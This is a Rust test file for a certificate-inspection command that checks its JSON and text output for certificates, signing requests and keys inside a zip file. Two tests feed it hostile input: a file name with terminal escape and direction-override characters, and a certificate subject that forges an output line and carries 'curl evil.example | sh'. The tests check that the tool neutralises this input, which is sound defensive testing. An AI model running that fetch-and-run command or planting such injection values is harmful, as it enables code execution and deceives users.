//! `certctl inspect`: what a file is, without a judgement.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

mod support;

use support::Sandbox;
use support::ca::ca_params;
use support::mask::masked;
use support::order::Order;
use support::zip::zip;

#[test]
fn the_document() {
    let shop = Order::new();
    let sandbox = &shop.sandbox;
    let key = sandbox.read("example.com.key");
    let files = [
        ("a.crt", shop.leaf.clone()),
        ("a.csr", sandbox.read("example.com.csr")),
        ("a.key", key),
        ("readme.txt", "hello".to_owned()),
    ];
    sandbox.write("all.zip", zip(&files));
    let document = sandbox.run(&["inspect", "all.zip", "--json", "--ca", "sectigo"]).expect(0).json();
    insta::assert_snapshot!(masked(&serde_json::to_string_pretty(&document).unwrap()), @r#"
    {
      "schema": "certctl.inspect/1",
      "file": "all.zip",
      "items": [
        {
          "kind": "certificate",
          "source": "a.crt in all.zip",
          "subject": "CN=example.com",
          "issuer": "CN=Test DV CA R2,O=certctl tests",
          "dns_names": [
            "example.com",
            "www.example.com"
          ],
          "ip_addresses": [],
          "not_before": "[DATE]",
          "not_after": "[DATE]",
          "serial": "[HEX]",
          "sha256": "[HEX]",
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          },
          "version": 3,
          "signature_algorithm": "ecdsa-with-SHA256",
          "other_names": [],
          "key_usages": [
            "digitalSignature"
          ],
          "extended_key_usages": [
            "serverAuth"
          ],
          "must_staple": false,
          "extensions": [
            {
              "oid": "2.5.29.35",
              "name": "authorityKeyIdentifier",
              "critical": false
            },
            {
              "oid": "2.5.29.17",
              "name": "subjectAltName",
              "critical": false
            },
            {
              "oid": "2.5.29.15",
              "name": "keyUsage",
              "critical": true
            },
            {
              "oid": "2.5.29.37",
              "name": "extKeyUsage",
              "critical": false
            }
          ],
          "days_left": 188,
          "is_site": true,
          "is_ca": null,
          "path_length": null,
          "subject_key_id": null,
          "authority_key_id": "[HEX]",
          "issuer_urls": [],
          "ocsp_urls": [],
          "crl_urls": [],
          "policies": [],
          "scts": []
        },
        {
          "kind": "request",
          "source": "a.csr in all.zip",
          "subject": "CN=example.com",
          "dns_names": [
            "example.com",
            "www.example.com"
          ],
          "ip_addresses": [],
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          },
          "md5": "[HEX]",
          "sha256": "[HEX]",
          "records": [
            {
              "name": "_[HEX].example.com",
              "zone": "example.com",
              "relative_name": "_[HEX]",
              "type": "CNAME",
              "value": "[HEX].[HEX].sectigo.com",
              "complete": true
            }
          ],
          "version": 1,
          "signature_algorithm": "ecdsa-with-SHA256",
          "other_names": [],
          "key_usages": [],
          "extended_key_usages": [],
          "must_staple": false,
          "extensions": [
            {
              "oid": "2.5.29.17",
              "name": "subjectAltName",
              "critical": false
            }
          ],
          "attributes": [
            "extensionRequest"
          ]
        },
        {
          "kind": "key",
          "source": "a.key in all.zip",
          "encrypted": false,
          "key": {
            "algorithm": "ecdsa-p256",
            "id": "[HEX]"
          }
        }
      ],
      "findings": [
        {
          "code": "text",
          "severity": "note",
          "message": "not used: readme.txt in all.zip is plain text",
          "next": []
        }
      ],
      "next": []
    }
    "#);
    let text = sandbox.run(&["inspect", "all.zip"]).expect(0);
    insta::assert_snapshot!(masked(&text.to_string()), @r"
    cert   1 of 1, site   (a.crt in all.zip)
           names   example.com, www.example.com
           valid   [DATE] to [DATE]  [....................]  188 days left
           subject CN=example.com
           issuer  CN=Test DV CA R2,O=certctl tests
           serial  [HEX]
           key     ecdsa-p256, id [HEX]
           sha256  [HEX]
           signed  ecdsa-with-SHA256
           usage   digitalSignature, serverAuth
    csr    a.csr in all.zip
           names   example.com, www.example.com
           subject CN=example.com
           key     ecdsa-p256, id [HEX]
           signed  ecdsa-with-SHA256
           md5     [HEX]
           sha256  [HEX]
           record  CNAME _[HEX].example.com -> [HEX].[HEX][.<unique value>].<zone>
    key    ecdsa-p256, id [HEX], not encrypted   (a.key in all.zip)
    note   not used: readme.txt in all.zip is plain text
    --- exit 0
    ");
}

#[test]
fn the_request_of_the_documentation_has_its_hashes() {
    let shop = Order::new();
    let fixture = include_bytes!("../fixtures/namecheap-doc.csr");
    let document =
        shop.sandbox.run_with_input(&["inspect", "-", "--json", "--ca", "namecheap"], fixture).expect(0).json();
    let request = &document["items"][0];
    assert_eq!(request["kind"], "request");
    assert_eq!(request["md5"], "6fcfe984ac87413b45a0d531d2172600");
    assert_eq!(request["sha256"], "46b9c075c165526983f73319a38c647bf35bf554d979c464b01d99f8839ba328");
    assert_eq!(request["records"][0]["relative_name"], "_6fcfe984ac87413b45a0d531d2172600");
    assert_eq!(request["records"][0]["complete"], false);
}

#[test]
fn it_reads_what_it_can_and_never_judges() {
    let shop = Order::new();
    shop.sandbox.write("expired.pem", shop.chain());
    shop.sandbox.write("page.crt", "<html>");
    shop.sandbox.write("empty.crt", "");
    shop.sandbox
        .write("locked.key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMAQwAAQA\n-----END ENCRYPTED PRIVATE KEY-----\n");
    for (file, exit) in [
        ("expired.pem", 0),
        ("root.pem", 0),
        ("example.com.key", 0),
        ("locked.key", 0),
        ("page.crt", 3),
        ("empty.crt", 3),
        ("missing.crt", 3),
        (".", 0),
    ] {
        shop.sandbox.run(&["inspect", file, "--at", "2050-01-01T00:00:00Z"]).expect(exit);
    }
}

#[test]
fn foreign_text_is_shown_and_does_nothing() {
    let shop = Order::new();
    let packed = zip(&[("\x1b]0;owned\x07\u{202e}.crt", shop.leaf.clone())]);
    shop.sandbox.write("x.zip", packed);
    for args in [["inspect", "x.zip"].as_slice(), &["inspect", "x.zip", "--json"]] {
        let run = shop.sandbox.run(args).expect(0);
        assert!(!run.stdout.contains(['\x1b', '\x07', '\u{202e}']), "{run}");
    }
}

#[test]
fn a_subject_cannot_forge_a_line() {
    let sandbox = Sandbox::new();
    let mut params = ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
    params.is_ca = rcgen::IsCa::NoCa;
    let key = rcgen::KeyPair::generate().unwrap();
    sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
    for command in ["inspect", "verify"] {
        let run = sandbox.run(&[command, "evil.pem"]);
        let page = run.to_string();
        assert!(page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"), "{page}");
        assert!(
            !page
                .lines()
                .any(|line| line.starts_with("right") || line.contains("next   curl") && !line.contains(r"\u{a}")),
            "{page}"
        );
    }
}
